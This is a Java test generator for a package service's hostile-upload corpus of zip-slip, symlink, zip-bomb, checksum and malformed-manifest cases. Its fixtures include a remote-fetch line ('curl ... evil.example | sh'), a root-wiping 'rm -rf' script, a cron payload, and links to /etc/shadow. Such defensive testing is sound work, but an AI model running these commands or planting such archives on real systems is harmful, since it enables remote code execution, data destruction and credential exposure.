package dev.distributor.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.core.util.DefaultIndenter;
import com.fasterxml.jackson.core.util.DefaultPrettyPrinter;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;

import dev.distributor.testing.RawZip;
import dev.distributor.testing.Zips;

/**
 * The hostile upload corpus (issue 11): malformed and malicious uploads a publisher could send, each with the code the
 * service must answer. {@link #generate()} builds every file of {@code src/test/resources/hostile/} from this source,
 * so the corpus is reproducible and reviewable: {@link HostileCorpusSnapshotTest} fails when the committed files
 * differ and rewrites them with {@code -Dhostile.update=true}; {@link HostileUploadTest} sends each case.
 * <p>
 * Every case is an otherwise valid upload with one defect, so the expected code can only come from that defect: the
 * zips carry install.sh and uninstall.sh, the manifests name their files with the right sha256.
 */
public final class HostileCorpus {

    /** Where the corpus is committed, relative to the project root (the working directory of tests). */
    public static final Path DIRECTORY = Path.of("src/test/resources/hostile");
    public static final String INDEX = "cases.json";

    public static final String REST = "rest";
    public static final String PRESIGNED = "presigned";
    private static final List<String> BOTH = List.of(REST, PRESIGNED);

    /** The file name every single-file case gives its zip in the manifest. */
    static final String ZIP = "app-linux.zip";
    private static final long GIB = 1L << 30;

    /** A file the client sends: its manifest name, where it is in the corpus, and the sha256 the manifest claims. */
    public record CaseFile(String name, String path, String sha256) {
    }

    /**
     * One upload.
     *
     * @param packageName null for a fresh package the test creates; else sent as is (a hostile name)
     * @param version the version name sent (REST {@code version} field, GraphQL {@code version})
     * @param flows which of {@link #REST} and {@link #PRESIGNED} can carry the case
     * @param refusedBeforeFiles whether the refusal comes before any uploaded file is read (a manifest or a name):
     *            in the presigned flow the client's PUT has then already happened
     */
    public record HostileCase(String id, String kind, String attack, String expected, List<String> flows,
            boolean refusedBeforeFiles, String packageName, String version, String manifest, List<CaseFile> files) {
    }

    /** The order kinds are listed in, with a one-line description for the README. */
    static final Map<String, String> KINDS = kinds();

    private final Map<String, byte[]> files = new TreeMap<>();
    private final List<HostileCase> cases = new ArrayList<>();

    private HostileCorpus() {
    }

    /** Every file of the corpus by its path relative to {@link #DIRECTORY}, including the index and the README. */
    public static Map<String, byte[]> generate() {
        var corpus = new HostileCorpus();
        corpus.symlinks();
        corpus.hiddenStructure();
        corpus.entryNames();
        corpus.bombs();
        corpus.notAZip();
        corpus.missingScripts();
        corpus.checksums();
        corpus.manifests();
        corpus.names();
        corpus.files.put(INDEX, corpus.index());
        corpus.files.put("README.md", corpus.readme().getBytes(StandardCharsets.UTF_8));
        return corpus.files;
    }

    /** The cases listed in the committed index. */
    public static List<HostileCase> load() {
        try {
            return List.of(JSON.readValue(Files.readAllBytes(DIRECTORY.resolve(INDEX)), HostileCase[].class));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] read(String path) {
        try {
            return Files.readAllBytes(DIRECTORY.resolve(path));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ------------------------------------------------------------------------------------------------ kinds

    private void symlinks() {
        String kind = "symlink";
        zipCase("symlink-absolute", kind, "an entry that is a symlink to an absolute path (/etc/passwd)",
                "INVALID_ZIP", base("symlink-absolute").symlink("passwd", "/etc/passwd"));
        zipCase("symlink-escaping", kind, "a symlink whose relative target climbs out of the folder (lib/up -> "
                + "../../../../etc)", "INVALID_ZIP", base("symlink-escaping").symlink("lib/up", "../../../../etc"));
        zipCase("symlink-write-through", kind, "a link to a directory, then a file written through it (lnk -> /etc, "
                + "then lnk/cron.d/x)", "INVALID_ZIP",
                base("symlink-write-through").symlink("lnk", "/etc")
                        .file("lnk/cron.d/x", "* * * * * root sh -c 'id > /tmp/pwned'\n"));
        zipCase("symlink-escaping-write-through", kind, "a relative link out of the folder, then a file written "
                + "through it (lib/up -> ../../.., then lib/up/tmp/x.sh)", "INVALID_ZIP",
                base("symlink-escaping-write-through").symlink("lib/up", "../../..")
                        .file("lib/up/tmp/x.sh", "#!/bin/sh\nid\n"));
        zipCase("symlink-install-script", kind, "install.sh is itself a link (-> /bin/sh)", "INVALID_ZIP",
                new RawZip().symlink("install.sh", "/bin/sh").file("uninstall.sh", script("uninstall"))
                        .file("payload.txt", "symlink-install-script"));
        zipCase("symlink-uninstall-script", kind, "uninstall.sh is a link to a file outside (-> /etc/shadow)",
                "INVALID_ZIP", new RawZip().file("install.sh", script("install"))
                        .symlink("uninstall.sh", "/etc/shadow").file("payload.txt", "symlink-uninstall-script"));
        zipCase("symlink-inside", kind, "a harmless-looking link that stays inside (docs/readme -> ../payload.txt): "
                + "packages need no links at all", "INVALID_ZIP",
                base("symlink-inside").symlink("docs/readme", "../payload.txt"));
    }

    private void hiddenStructure() {
        String kind = "structure";
        zipCase("duplicate-name-different-bytes", kind, "install.sh twice with different bytes; readers disagree on "
                + "which one wins", "INVALID_ZIP",
                base("duplicate-name-different-bytes")
                        .file("install.sh", "#!/bin/sh\ncurl -s http://evil.example | sh\n"));
        zipCase("duplicate-name-same-bytes", kind, "payload.txt twice with the same bytes", "INVALID_ZIP",
                base("duplicate-name-same-bytes").file("payload.txt", "duplicate-name-same-bytes"));
        zipCase("duplicate-dot-slash", kind, "./install.sh beside install.sh: the same file after normalisation",
                "INVALID_ZIP", base("duplicate-dot-slash").file("./install.sh", "#!/bin/sh\necho other\n"));
        zipCase("duplicate-repeated-slash", kind, "lib//run.sh beside lib/run.sh: the same file after "
                + "normalisation", "INVALID_ZIP",
                base("duplicate-repeated-slash").file("lib/run.sh", "echo a\n")
                        .file("lib//run.sh", "echo b\n"));
        zipCase("duplicate-case-folded-script", kind, "INSTALL.sh beside install.sh: one file on a case-insensitive "
                + "file system", "INVALID_ZIP",
                base("duplicate-case-folded-script")
                        .file("INSTALL.sh", "#!/bin/sh\necho other\n"));
        zipCase("duplicate-case-folded-file", kind, "README.txt beside readme.TXT", "INVALID_ZIP",
                base("duplicate-case-folded-file").file("README.txt", "a\n").file("readme.TXT", "b\n"));
        zipCase("duplicate-case-folded-directory", kind, "lib/a.sh beside LIB/a.sh (the folder differs in case)",
                "INVALID_ZIP", base("duplicate-case-folded-directory").file("lib/a.sh", "echo a\n")
                        .file("LIB/a.sh", "echo b\n"));
        var localEscape = base("local-name-escapes");
        localEscape.add("extra.txt", "#!/bin/sh\nid\n").localName("../../../tmp/x.sh");
        zipCase("local-name-escapes", kind, "central directory says extra.txt, the local header says "
                + "../../../tmp/x.sh (a streaming unzip writes there)", "INVALID_ZIP", localEscape);
        var localScript = new RawZip().file("install.sh", script("install"));
        localScript.add("uninstall.sh", script("uninstall")).localName("uninstall.sx");
        localScript.file("payload.txt", "local-name-differs");
        zipCase("local-name-differs", kind, "central uninstall.sh, local header uninstall.sx: the two views "
                + "disagree on the name", "INVALID_ZIP", localScript);
        var shared = base("overlap-shared-local");
        shared.add("copy.txt", "overlap-shared-local").sharingLocalHeaderOf(shared.entry("payload.txt"));
        zipCase("overlap-shared-local", kind, "two central entries (payload.txt, copy.txt) pointing at one local "
                + "record", "INVALID_ZIP", shared);
        fileCase("overlap-quoted", kind, "a stored entry whose data contains the whole local record of the next "
                + "entry, which the central directory points into (overlapping data, the trick of non-recursive zip "
                + "bombs)", "INVALID_ZIP", quotedOverlap());
        var smaller = base("size-declared-smaller");
        smaller.add("data.bin", repeat("size-declared-smaller ", 200)).deflated().size(100);
        zipCase("size-declared-smaller", kind, "a deflated entry declaring 100 bytes that inflates to 4,400",
                "INVALID_ZIP", smaller);
        var larger = base("size-declared-larger");
        larger.add("data.bin", repeat("size-declared-larger ", 20)).deflated().size(100_000);
        zipCase("size-declared-larger", kind, "a deflated entry declaring 100,000 bytes that inflates to 420",
                "INVALID_ZIP", larger);
        var storedSizes = base("size-stored-mismatch");
        storedSizes.add("data.bin", "0123456789abcdef").size(8);
        zipCase("size-stored-mismatch", kind, "a stored entry whose uncompressed size (8) differs from its stored "
                + "size (16)", "INVALID_ZIP", storedSizes);
        var localSizes = base("size-local-differs");
        localSizes.add("data.bin", "0123456789abcdef").local().size(4).compressedSize(4);
        zipCase("size-local-differs", kind, "the local header declares 4 bytes, the central directory 16",
                "INVALID_ZIP", localSizes);
        var crc = base("crc-wrong-stored");
        crc.add("data.bin", "the bytes the CRC was not computed over\n").crc(0xdeadbeefL);
        zipCase("crc-wrong-stored", kind, "a stored entry with a wrong CRC-32", "INVALID_ZIP", crc);
        var crcDeflated = new RawZip();
        crcDeflated.add("install.sh", script("install")).deflated().crc(0x12345678L);
        crcDeflated.file("uninstall.sh", script("uninstall")).file("payload.txt", "crc-wrong-deflated-script");
        zipCase("crc-wrong-deflated-script", kind, "install.sh deflated, with a wrong CRC-32", "INVALID_ZIP",
                crcDeflated);
        var encrypted = base("encrypted-entry");
        encrypted.add("secret.bin", "not really encrypted, but flagged so\n").flags(RawZip.FLAG_ENCRYPTED);
        zipCase("encrypted-entry", kind, "an entry flagged as encrypted (general purpose bit 0)", "INVALID_ZIP",
                encrypted);
        var encryptedScript = new RawZip();
        encryptedScript.add("install.sh", script("install")).flags(RawZip.FLAG_ENCRYPTED);
        encryptedScript.file("uninstall.sh", script("uninstall")).file("payload.txt", "encrypted-script");
        zipCase("encrypted-script", kind, "install.sh flagged as encrypted", "INVALID_ZIP", encryptedScript);
        var lzma = base("method-lzma");
        lzma.add("data.bin", "pretend LZMA data").method(14);
        zipCase("method-lzma", kind, "an entry compressed with method 14 (LZMA), which the service does not read",
                "INVALID_ZIP", lzma);
        var ppmd = base("method-ppmd");
        ppmd.add("data.bin", "pretend PPMd data").method(98);
        zipCase("method-ppmd", kind, "an entry compressed with method 98 (PPMd)", "INVALID_ZIP", ppmd);
        var unknown = base("method-unknown");
        unknown.add("data.bin", "no such method").method(77);
        zipCase("method-unknown", kind, "an entry with compression method 77, which no specification defines",
                "INVALID_ZIP", unknown);
    }

    private void entryNames() {
        String kind = "entry-name";
        zipCase("name-absolute", kind, "an entry at an absolute path (/etc/cron.d/x)", "INVALID_ZIP",
                base("name-absolute").file("/etc/cron.d/x", "* * * * * root id\n"));
        zipCase("name-drive-letter", kind, "an entry at a Windows absolute path (C:/Windows/x.dll)", "INVALID_ZIP",
                base("name-drive-letter").file("C:/Windows/x.dll", "MZ"));
        zipCase("name-dotdot", kind, "an entry climbing out of the folder (../../x.sh)", "INVALID_ZIP",
                base("name-dotdot").file("../../x.sh", "#!/bin/sh\nid\n"));
        zipCase("name-dotdot-inner", kind, "an entry climbing out through an inner .. (lib/../../x.sh)",
                "INVALID_ZIP", base("name-dotdot-inner").file("lib/../../x.sh", "#!/bin/sh\nid\n"));
        zipCase("name-backslash-dotdot", kind, "an entry climbing out with backslashes (..\\..\\x.sh)",
                "INVALID_ZIP", base("name-backslash-dotdot").file("..\\..\\x.sh", "#!/bin/sh\nid\n"));
        zipCase("name-backslash", kind, "a backslash in a name (lib\\x.sh): a separator on Windows, a character on "
                + "Linux", "INVALID_ZIP", base("name-backslash").file("lib\\x.sh", "echo x\n"));
        zipCase("name-empty-segment", kind, "an empty path segment (lib//x.sh)", "INVALID_ZIP",
                base("name-empty-segment").file("lib//x.sh", "echo x\n"));
        zipCase("name-nul", kind, "a NUL in a name (payload.txt<NUL>.sh): C code sees payload.txt", "INVALID_ZIP",
                base("name-nul").file("payload.txt\0.sh", "#!/bin/sh\nid\n"));
        zipCase("name-empty", kind, "an entry with an empty name", "INVALID_ZIP",
                base("name-empty").file("", "nameless\n"));
        zipCase("name-dot-segment", kind, "a name that is only a dot segment (lib/./.)", "INVALID_ZIP",
                base("name-dot-segment").file("lib/./.", "dot\n"));
    }

    private void bombs() {
        String kind = "zip-bomb";
        var bomb = base("bomb-1200MB");
        bomb.addZeros("zeros.bin", 1_200_000_000L);
        zipCase("bomb-1200MB", kind, "one deflated entry of 1.2 GB of zeros (1.2 MB on disk), past the 1 GiB limit",
                "ZIP_TOO_LARGE", bomb);
        var largerBomb = base("bomb-2500MB");
        largerBomb.addZeros("zeros.bin", 2_500_000_000L);
        zipCase("bomb-2500MB", kind, "one deflated entry of 2.5 GB of zeros (2.4 MB on disk), under the old 4G "
                + "limit", "ZIP_TOO_LARGE", largerBomb);
        var many = base("bomb-10001-entries");
        for (int i = 0; i < 10_001 - 3; i++) {
            many.file(shortName(i), new byte[0]);
        }
        zipCase("bomb-10001-entries", kind, "10,001 empty entries, one past the 10,000 entry limit",
                "ZIP_TOO_LARGE", many);
    }

    private void notAZip() {
        String kind = "not-a-zip";
        byte[] valid = base("truncated").bytes();
        fileCase("not-a-zip-text", kind, "a shell script named app-linux.zip", "INVALID_ZIP",
                "#!/bin/sh\nrm -rf --no-preserve-root /\n".getBytes(StandardCharsets.UTF_8));
        fileCase("not-a-zip-gzip", kind, "a gzip header and garbage", "INVALID_ZIP",
                bytes(0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 'g', 'a', 'r', 'b', 'a', 'g', 'e'));
        fileCase("not-a-zip-local-header-only", kind, "a zip local-header signature and nothing else", "INVALID_ZIP",
                bytes('P', 'K', 3, 4, 0, 0, 0, 0));
        fileCase("truncated-half", kind, "a valid package cut in half", "INVALID_ZIP",
                Arrays.copyOf(valid, valid.length / 2));
        fileCase("truncated-no-end-record", kind, "a valid package without its end-of-central-directory record",
                "INVALID_ZIP", Arrays.copyOf(valid, valid.length - 22));
        fileCase("truncated-last-byte", kind, "a valid package without its last byte", "INVALID_ZIP",
                Arrays.copyOf(valid, valid.length - 1));
        var emptyFile = new HostileCase("empty-file", kind, "a file of zero bytes (the presigned flow refuses "
                + "size 0 already when the upload is requested)", "INVALID_ZIP", List.of(REST), false, null, "1.0.0",
                manifestPath("empty-file"), List.of(caseFile("empty-file", ZIP, new byte[0])));
        add(emptyFile, manifest(List.of(emptyFile.files().get(0))));
        fileCase("garbage-appended", kind, "a valid package followed by 1 KiB of other bytes", "INVALID_ZIP",
                concat(base("garbage-appended").bytes(), pattern(1024)));
        fileCase("zip-appended", kind, "two packages concatenated: readers that look at the end see the second, "
                + "readers that stream see the first", "INVALID_ZIP",
                concat(base("zip-appended-first").bytes(), base("zip-appended-second").bytes()));
        fileCase("garbage-between-entries", kind, "bytes between the last local record and the central directory "
                + "that no entry accounts for", "INVALID_ZIP", garbageBetween());
    }

    private void missingScripts() {
        String kind = "missing-script";
        zipCase("missing-install", kind, "no install.sh", "MISSING_SCRIPT",
                new RawZip().file("uninstall.sh", script("uninstall")).file("payload.txt", "missing-install"));
        zipCase("missing-uninstall", kind, "no uninstall.sh", "MISSING_SCRIPT",
                new RawZip().file("install.sh", script("install")).file("payload.txt", "missing-uninstall"));
        zipCase("scripts-in-folder", kind, "the scripts in a subfolder (app/install.sh), not at the root",
                "MISSING_SCRIPT", new RawZip().file("app/install.sh", script("install"))
                        .file("app/uninstall.sh", script("uninstall")).file("payload.txt", "scripts-in-folder"));
        zipCase("scripts-wrong-case", kind, "Install.sh and Uninstall.sh only", "MISSING_SCRIPT",
                new RawZip().file("Install.sh", script("install")).file("Uninstall.sh", script("uninstall"))
                        .file("payload.txt", "scripts-wrong-case"));
        zipCase("scripts-windows-only", kind, "install.ps1 and uninstall.ps1 in a zip used for ubuntu",
                "MISSING_SCRIPT", new RawZip().file("install.ps1", "Write-Output install\n")
                        .file("uninstall.ps1", "Write-Output uninstall\n").file("payload.txt", "scripts-windows-only"));
        zipCase("script-is-directory", kind, "install.sh/ is a directory", "MISSING_SCRIPT",
                new RawZip().directory("install.sh/").file("install.sh/run", script("install"))
                        .file("uninstall.sh", script("uninstall")).file("payload.txt", "script-is-directory"));
        zipCase("empty-archive", kind, "a well-formed zip with no entries", "MISSING_SCRIPT", new RawZip());
    }

    private void checksums() {
        String kind = "checksum";
        byte[] other = base("checksum-other-file").bytes();
        byte[] sent = base("checksum-other").bytes();
        checksumCase("checksum-other", "the manifest's sha256 is of another file", sent, Zips.sha256(other));
        byte[] original = base("checksum-one-bit").bytes();
        byte[] oneBit = original.clone();
        oneBit[oneBit.length / 2] ^= 1;
        checksumCase("checksum-one-bit", "the bytes sent differ from the ones the manifest hashes by one bit",
                original, Zips.sha256(oneBit));
        checksumCase("checksum-empty", "the manifest names the sha256 of empty content",
                base("checksum-empty").bytes(), Zips.sha256(new byte[0]));
        String id = "checksum-second-file";
        byte[] good = base(id + "-good").bytes();
        byte[] bad = base(id + "-bad").bytes();
        var files = List.of(caseFile(id, "app-x86_64.zip", good),
                new CaseFile("app-arm64.zip", write(id, "app-arm64.zip", bad),
                        Zips.sha256(base(id + "-claimed").bytes())));
        var twoFiles = new HostileCase(id, kind, "two files, the first valid, the second not matching its sha256: "
                + "nothing of either may stay", "CHECKSUM_MISMATCH", BOTH, false, null, "1.0.0", manifestPath(id),
                files);
        add(twoFiles, manifest(files, """
                "ubuntu": { "_any": { "x86_64": { "file": "app-x86_64.zip" }, "arm64": { "file": "app-arm64.zip" } } }\
                """));
    }

    private void manifests() {
        String kind = "manifest";
        String c = "INVALID_MANIFEST";
        // Invalid UTF-8 can only travel as bytes: a GraphQL string is already decoded text.
        invalidUtf8("manifest-utf8-lone-continuation", "a lone continuation byte (0x80) in publisher", 0x80);
        invalidUtf8("manifest-utf8-overlong", "an overlong encoding of '/' (0xC0 0xAF) in publisher", 0xc0, 0xaf);
        invalidUtf8("manifest-utf8-surrogate", "a UTF-16 surrogate encoded as UTF-8 (0xED 0xA0 0x80)", 0xed, 0xa0,
                0x80);
        invalidUtf8("manifest-utf8-truncated", "a multi-byte sequence cut short (0xE2 0x82) before the quote", 0xe2,
                0x82);
        invalidUtf8("manifest-utf8-ff", "a 0xFF byte, never valid in UTF-8", 0xff);
        manifestCase("manifest-nul-publisher", "\\u0000 in publisher", c,
                m -> m.replace("\"Hostile Corp\"", "\"Hostile\\u0000Corp\""));
        manifestCase("manifest-nul-description", "\\u0000 in a free-text field the service does not read "
                + "(description)", c,
                m -> m.replace("\"publisher\"", "\"description\": \"a\\u0000b\",\n  \"publisher\""));
        manifestCase("manifest-esc-publisher", "ESC (\\u001b[31m, a terminal escape) in publisher", c,
                m -> m.replace("\"Hostile Corp\"", "\"\\u001b[31mHostile Corp\\u001b[0m\""));
        manifestCase("manifest-esc-raw", "a raw ESC byte inside a string (not even valid JSON)", c,
                m -> m.replace("\"Hostile Corp\"", "\"Hostile\u001bCorp\""));
        manifestCase("manifest-bidi-publisher", "a raw U+202E (right-to-left override) in publisher", c,
                m -> m.replace("\"Hostile Corp\"", "\"Hostile \u202Eproc\""));
        manifestCase("manifest-bidi-escaped", "an escaped \\u202e in description", c,
                m -> m.replace("\"publisher\"", "\"description\": \"safe\\u202e\",\n  \"publisher\""));
        manifestCase("manifest-bidi-isolate", "U+2067 (right-to-left isolate) in publisher", c,
                m -> m.replace("\"Hostile Corp\"", "\"Hostile \u2067Corp\u2069\""));
        manifestCase("manifest-nul-key", "\\u0000 in a key (an unknown top-level key)", c,
                m -> m.replace("\"publisher\"", "\"x\\u0000y\": 1,\n  \"publisher\""));
        manifestCase("manifest-bidi-key", "U+202E in a key (an unknown top-level key)", c,
                m -> m.replace("\"publisher\"", "\"note\u202E\": \"x\",\n  \"publisher\""));
        manifestCase("manifest-esc-platform-key", "ESC in a platform key", c,
                m -> m.replace("\"ubuntu\"", "\"ubuntu\\u001b\""));
        manifestCase("manifest-version-mismatch", "manifest version 1.0.0 sent as version 2.0.0", c, "2.0.0",
                m -> m);
        manifestCase("manifest-version-missing", "no version in the manifest", c,
                m -> m.replace("\"version\": \"1.0.0\",\n", ""));
        manifestCase("manifest-schema-unknown", "schemaVersion 3.0", c,
                m -> m.replace("\"schemaVersion\": \"2.0\"", "\"schemaVersion\": \"3.0\""));
        manifestCase("manifest-schema-number", "schemaVersion as the number 2.0", c,
                m -> m.replace("\"schemaVersion\": \"2.0\"", "\"schemaVersion\": 2.0"));
        manifestCase("manifest-platform-key-dotdot", "a path-like platform key (../ubuntu)", c,
                m -> m.replace("\"ubuntu\"", "\"../ubuntu\""));
        manifestCase("manifest-platform-version-path", "a path-like platform version key (22.04/../../etc)", c,
                m -> m.replace("\"_any\"", "\"22.04/../../etc\""));
        manifestCase("manifest-arch-key-slash", "a path-like architecture key (x86_64/..)", c,
                m -> m.replace("\"x86_64\"", "\"x86_64/..\""));
        manifestCase("manifest-file-not-listed", "a platform names a file missing from files", c,
                m -> m.replace("{ \"file\": \"app-linux.zip\" }", "{ \"file\": \"ghost.zip\" }"));
        manifestCase("manifest-file-name-path", "a file name with a path (../app-linux.zip)", c,
                m -> m.replace("\"app-linux.zip\"", "\"../app-linux.zip\""));
        manifestCase("manifest-duplicate-key", "version given twice with different values", c,
                m -> m.replace("\"publisher\"", "\"version\": \"9.9.9\",\n  \"publisher\""));
        manifestCase("manifest-deep-nesting", "a description nested 10,000 arrays deep", c,
                m -> m.replace("\"publisher\"", "\"description\": " + "[".repeat(10_000) + "]".repeat(10_000)
                        + ",\n  \"publisher\""));
        manifestCase("manifest-huge-number", "a 5,000-digit number", c,
                m -> m.replace("\"publisher\"", "\"size\": 1" + "0".repeat(5_000) + ",\n  \"publisher\""));
        manifestCase("manifest-not-object", "a JSON array instead of an object", c, m -> "[" + m + "]");
        manifestCase("manifest-trailing-document", "a second JSON document after the manifest", c,
                m -> m + "{\"version\": \"6.6.6\"}\n");
    }

    private void names() {
        String kind = "name";
        nameCase("name-version-dotdot", "version '..': versions become folder names on hosts", null, "..");
        nameCase("name-version-dot", "version '.'", null, ".");
        nameCase("name-version-nul", "a NUL in the version (1.0.0<NUL>)", null, "1.0.0\0");
        nameCase("name-version-path", "a path as the version (../../etc)", null, "../../etc");
        nameCase("name-package-nul", "a NUL in the package name", "hostile\0pkg", "1.0.0");
        nameCase("name-package-slash", "a slash in the package name (evil/../pkg)", "evil/../pkg", "1.0.0");
        nameCase("name-package-300", "a package name of 300 characters", "p".repeat(300), "1.0.0");
        nameCase("name-package-bidi", "U+202E in the package name", "hostile\u202Egkp", "1.0.0");
    }

    // ------------------------------------------------------------------------------------------------ case builders

    private void zipCase(String id, String kind, String attack, String expected, RawZip zip) {
        fileCase(id, kind, attack, expected, zip.bytes());
    }

    private void fileCase(String id, String kind, String attack, String expected, byte[] zip) {
        var files = List.of(caseFile(id, ZIP, zip));
        var hostile = new HostileCase(id, kind, attack, expected, BOTH, false, null, "1.0.0", manifestPath(id),
                files);
        add(hostile, manifest(files));
    }

    private void checksumCase(String id, String attack, byte[] sent, String claimed) {
        var files = List.of(new CaseFile(ZIP, write(id, ZIP, sent), claimed));
        add(new HostileCase(id, "checksum", attack, "CHECKSUM_MISMATCH", BOTH, false, null, "1.0.0",
                manifestPath(id), files), manifest(files));
    }

    private void manifestCase(String id, String attack, String expected,
            java.util.function.UnaryOperator<String> edit) {
        manifestCase(id, attack, expected, "1.0.0", edit);
    }

    private void manifestCase(String id, String attack, String expected, String version,
            java.util.function.UnaryOperator<String> edit) {
        var files = List.of(caseFile(id, ZIP, base(id).bytes()));
        add(new HostileCase(id, "manifest", attack, expected, BOTH, true, null, version, manifestPath(id), files),
                edit.apply(manifestText(files, linuxPackages())).getBytes(StandardCharsets.UTF_8));
    }

    private void invalidUtf8(String id, String attack, int... bad) {
        var files = List.of(caseFile(id, ZIP, base(id).bytes()));
        String[] around = manifestText(files, linuxPackages()).split("Hostile Corp", 2);
        byte[] manifest = concat(around[0].getBytes(StandardCharsets.UTF_8),
                concat(concat("Hostile".getBytes(StandardCharsets.UTF_8), bytes(bad)),
                        around[1].getBytes(StandardCharsets.UTF_8)));
        add(new HostileCase(id, "manifest", attack, "INVALID_MANIFEST", List.of(REST), true, null, "1.0.0",
                manifestPath(id), files), manifest);
    }

    private void nameCase(String id, String attack, String packageName, String version) {
        var files = List.of(caseFile(id, ZIP, base(id).bytes()));
        add(new HostileCase(id, "name", attack, "INVALID_NAME", BOTH, true, packageName, version, manifestPath(id),
                files),
                manifestText(files, linuxPackages()).replace("\"1.0.0\"", jsonString(version))
                        .getBytes(StandardCharsets.UTF_8));
    }

    private void add(HostileCase hostile, byte[] manifest) {
        if (cases.stream().anyMatch(c -> c.id().equals(hostile.id()))) {
            throw new IllegalStateException("two cases named " + hostile.id());
        }
        files.put(hostile.manifest(), manifest);
        cases.add(hostile);
    }

    private CaseFile caseFile(String id, String name, byte[] bytes) {
        return new CaseFile(name, write(id, name, bytes), Zips.sha256(bytes));
    }

    private String write(String id, String name, byte[] bytes) {
        String path = "cases/" + id + "/" + name;
        files.put(path, bytes);
        return path;
    }

    private static String manifestPath(String id) {
        return "cases/" + id + "/manifest.json";
    }

    // ------------------------------------------------------------------------------------------------ content

    /** A valid package: install.sh, uninstall.sh and a payload naming the case, so no two cases share bytes. */
    private static RawZip base(String marker) {
        return new RawZip().file("install.sh", script("install")).file("uninstall.sh", script("uninstall"))
                .file("payload.txt", marker);
    }

    private static String script(String action) {
        return "#!/bin/sh\necho " + action + "\n";
    }

    /** One to three characters of [a-z0-9], never a script's name. */
    private static String shortName(int i) {
        String alphabet = "abcdefghijklmnopqrstuvwxyz0123456789";
        var name = new StringBuilder();
        int n = i;
        do {
            name.append(alphabet.charAt(n % alphabet.length()));
            n = n / alphabet.length() - 1;
        } while (n >= 0);
        return name.toString();
    }

    /** Entry B's whole local record is the stored data of entry A, and the central directory points into it. */
    private static byte[] quotedOverlap() {
        byte[] inner = new RawZip().file("payload.txt", "overlap-quoted").bytes();
        int innerRecord = 30 + "payload.txt".length() + "overlap-quoted".length();
        var zip = new RawZip().file("install.sh", script("install")).file("uninstall.sh", script("uninstall"));
        var cover = zip.add("cover.bin", Arrays.copyOf(inner, innerRecord));
        zip.add("payload.txt", "overlap-quoted").pointingIntoDataOf(cover);
        return zip.bytes();
    }

    /** A valid package whose central directory is preceded by bytes no entry claims. */
    private static byte[] garbageBetween() {
        byte[] zip = base("garbage-between-entries").bytes();
        int end = zip.length - 22;
        long directoryStart = (zip[end + 16] & 0xffL) | (zip[end + 17] & 0xffL) << 8 | (zip[end + 18] & 0xffL) << 16
                | (zip[end + 19] & 0xffL) << 24;
        byte[] filler = pattern(64);
        var out = new ByteArrayOutputStream();
        out.write(zip, 0, (int) directoryStart);
        out.writeBytes(filler);
        out.write(zip, (int) directoryStart, end + 16 - (int) directoryStart);
        long moved = directoryStart + filler.length;
        out.write((int) (moved & 0xff));
        out.write((int) ((moved >>> 8) & 0xff));
        out.write((int) ((moved >>> 16) & 0xff));
        out.write((int) ((moved >>> 24) & 0xff));
        out.write(zip, end + 20, 2);
        return out.toByteArray();
    }

    private static String linuxPackages() {
        return "\"ubuntu\": { \"_any\": { \"x86_64\": { \"file\": \"app-linux.zip\" } } }";
    }

    private static byte[] manifest(List<CaseFile> files) {
        return manifest(files, linuxPackages());
    }

    private static byte[] manifest(List<CaseFile> files, String packages) {
        return manifestText(files, packages).getBytes(StandardCharsets.UTF_8);
    }

    private static String manifestText(List<CaseFile> files, String packages) {
        var listed = new StringBuilder();
        for (CaseFile f : files) {
            listed.append(listed.isEmpty() ? "" : ",\n    ").append("\"").append(f.name())
                    .append("\": { \"checksums\": { \"sha256\": \"").append(f.sha256()).append("\" } }");
        }
        return """
                {
                  "schemaVersion": "2.0",
                  "version": "1.0.0",
                  "publisher": "Hostile Corp",
                  "packages": { %s },
                  "files": {
                    %s
                  }
                }
                """.formatted(packages, listed);
    }

    private static String jsonString(String value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String repeat(String text, int times) {
        return text.repeat(times);
    }

    private static byte[] bytes(int... values) {
        byte[] out = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            out[i] = (byte) values[i];
        }
        return out;
    }

    private static byte[] pattern(int length) {
        byte[] out = new byte[length];
        for (int i = 0; i < length; i++) {
            out[i] = (byte) (i * 31 + 7);
        }
        return out;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    // ------------------------------------------------------------------------------------------------ index, README

    private static final ObjectMapper JSON = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    private byte[] index() {
        var printer = new DefaultPrettyPrinter().withArrayIndenter(DefaultIndenter.SYSTEM_LINEFEED_INSTANCE
                .withLinefeed("\n"))
                .withObjectIndenter(DefaultIndenter.SYSTEM_LINEFEED_INSTANCE.withLinefeed("\n"));
        try {
            return (JSON.writer(printer).writeValueAsString(cases) + "\n").getBytes(StandardCharsets.UTF_8);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private String readme() {
        var text = new StringBuilder(
                """
                        # Hostile upload corpus

                        Malformed and malicious package uploads (issue 11), each with the error code the service must answer.
                        Generated by `src/test/java/dev/distributor/hostile/HostileCorpus.java`; do not edit these files by hand.
                        `HostileCorpusSnapshotTest` fails when they differ from what the generator writes; accept a change with

                            mvn test -Dtest=HostileCorpusSnapshotTest -Dhostile.update=true

                        `HostileUploadTest` sends every case through the REST one-request upload
                        (`POST /api/packages/{name}/versions`) and the GraphQL presigned flow (requestArtifactUpload, PUT,
                        addPackageVersion), where the case applies, and asserts the code, that no version or artifact row and no
                        object was stored, and that `/q/health` still answers.

                        `cases.json` lists each case: `id`, `kind`, `attack`, `expected` code, `flows` (`rest`, `presigned`),
                        `refusedBeforeFiles` (a manifest or name refusal: in the presigned flow the client's PUT has happened,
